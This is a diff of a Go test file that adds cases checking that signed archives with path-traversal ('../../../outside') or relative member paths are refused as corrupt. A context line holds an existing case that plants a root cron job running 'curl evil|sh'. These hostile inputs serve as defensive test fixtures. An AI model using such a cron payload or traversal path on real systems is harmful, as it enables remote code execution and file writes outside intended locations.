@@ -165,6 +165,19 @@ func TestForgedArchivesRefused(t *testing.T) {
 			fg.add("/x/L/f", "0644", "include", []byte("x"))
 			return fg.write(t, testSigningKey, nil)
 		}, RestoreOptions{}, ErrCorrupt, "/x/L/f lies under the symlink /x/L"},
+		// Paths that are not clean and absolute, signed by the trusted key:
+		// refused as corrupt before anything else reads them (not left to
+		// the os.Root, nor to the check of what configurations reference).
+		{"a path with .. segments", func(fg *forged) string {
+			fg.add(filepath.Join(p.dir, "etc")+"/../../../outside", "0644", "include", []byte("x"))
+			return fg.write(t, testSigningKey, nil)
+		}, RestoreOptions{}, ErrCorrupt, "is not a clean absolute path"},
+		{"a relative path", func(fg *forged) string {
+			fg.add("/etc/stella-mirror/extra.yaml", "0644", "include", []byte("x"))
+			e := &fg.m.Entries[len(fg.m.Entries)-1]
+			e.Path = strings.TrimPrefix(e.Path, "/") // the member stays files/etc/…
+			return fg.write(t, testSigningKey, nil)
+		}, RestoreOptions{}, ErrCorrupt, "is not a clean absolute path"},
 		{"an absolute path no configuration references", func(fg *forged) string {
 			fg.add("/etc/cron.d/evil", "0644", "config", []byte("* * * * * root sh -c 'curl evil|sh'\n"))
 			return fg.write(t, testSigningKey, nil)
